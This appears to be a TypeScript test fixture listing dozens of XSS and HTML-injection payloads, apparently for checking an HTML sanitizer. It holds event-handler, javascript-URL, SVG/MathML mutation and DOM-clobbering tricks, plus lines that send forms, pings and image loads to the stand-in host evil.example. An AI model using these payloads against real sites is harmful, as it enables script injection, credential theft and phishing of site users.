const RUN = "window.trapped='ran'";

/** Known ways to get code, requests or one's own look into a page by HTML. */
export const HOSTILE_HTML: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="https://cbu01.alicdn.com/a.jpg" onload="${RUN}" style="position:fixed">`,
  `<img src="https://cbu01.alicdn.com.evil.example/a.jpg">`,
  `<img src="https://user@evil.example/cbu01.alicdn.com.jpg" srcset="https://evil.example/b 2x">`,
  `<img src="\\\\evil.example\\a.jpg"><img src="/\\evil.example/a.jpg">`,
  `<img data-lazyload-src="javascript:${RUN}" src="javascript:${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>a</text></a></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="https://evil.example/a.swf">`,
  `<a href="javascript:${RUN}">a</a><a href=" jAvA&#x09;sCrIpT:${RUN}">b</a>`,
  `<a href="data:text/html,<script>${RUN}</script>" target=_top ping="https://evil.example/">c</a>`,
  `<a href="vbscript:${RUN}">d</a><area href="javascript:${RUN}"><map name=m></map>`,
  `<form action="https://evil.example/"><input name=password autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details><select autofocus onfocus="${RUN}">`,
  `<video src=x onerror="${RUN}" poster="https://evil.example/p.gif"><source onerror="${RUN}"></video><audio src=x onerror="${RUN}">`,
  `<style>@import url(https://evil.example/a.css);*{background:url(https://evil.example/b.gif)}</style>`,
  `<p style="background:url(https://evil.example/c.gif);position:fixed;inset:0">x</p>`,
  `<table background="https://evil.example/d.gif"><td background="https://evil.example/e.gif">x</table>`,
  `<body background="https://evil.example/f.gif" onload="${RUN}">x`,
  `<link rel=stylesheet href="https://evil.example/g.css"><base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/h"><title>owned</title>`,
  `<div id=root name=body class=fixed is=x-evil slot=a part=b tabindex=1 contenteditable autofocus>x</div>`,
  `<x-evil onclick="${RUN}">x</x-evil><marquee onstart="${RUN}">x</marquee><keygen autofocus onfocus="${RUN}">`,
  `<div id="attributes"><input name="childNodes"><img name="body"><form id="documentElement"></form></div>`,
  `<textarea></textarea><img src=x onerror="${RUN}"></textarea><xmp></xmp><img src=x onerror="${RUN}">`,
  `<!--><img src=x onerror="${RUN}">--><![CDATA[><img src=x onerror="${RUN}">]]><?x ><img src=x onerror="${RUN}">`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `</body></html><script>${RUN}</script>`,
  `<picture><source srcset="https://evil.example/i.gif"><img src="https://evil.example/j.gif"></picture>`,
  `<p onpointerrawupdate="${RUN}" onclick="${RUN}">x</p><b onmouseover=${RUN}>y</b>`,
  `<dialog open><img src=x onerror="${RUN}"></dialog><div popover=auto id=p>x</div>`,
  `\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt><img \u0000src=x on\u0000error=${RUN}>`,
];

/** Pieces from which other such texts are put together. */
export const HOSTILE_PIECES: readonly string[] = [
  ...HOSTILE_HTML,
  ...(
    '<svg> </svg> <math> </math> <mtext> <mglyph> <style> </style> <!-- --> <table> <tr> <td> ' +
    '</table> <form> </form> <p> </p> <a> </a> <b <img <title> </title> <template> </template> ' +
    '<noscript> </noscript> <select> <option> <desc> <foreignObject> <annotation-xml> <iframe> ' +
    '</iframe> <xmp> <textarea> &lt; &gt; &quot; " \' ` = / > <'
  ).split(' '),
  ` href="https://shop.example/"`,
  ` src="https://cbu01.alicdn.com/a.jpg"`,
  ` onerror="${RUN}"`,
  ` alt="--><script>${RUN}</script>"`,
  ` colspan="2"`,
  ` id=x`,
];
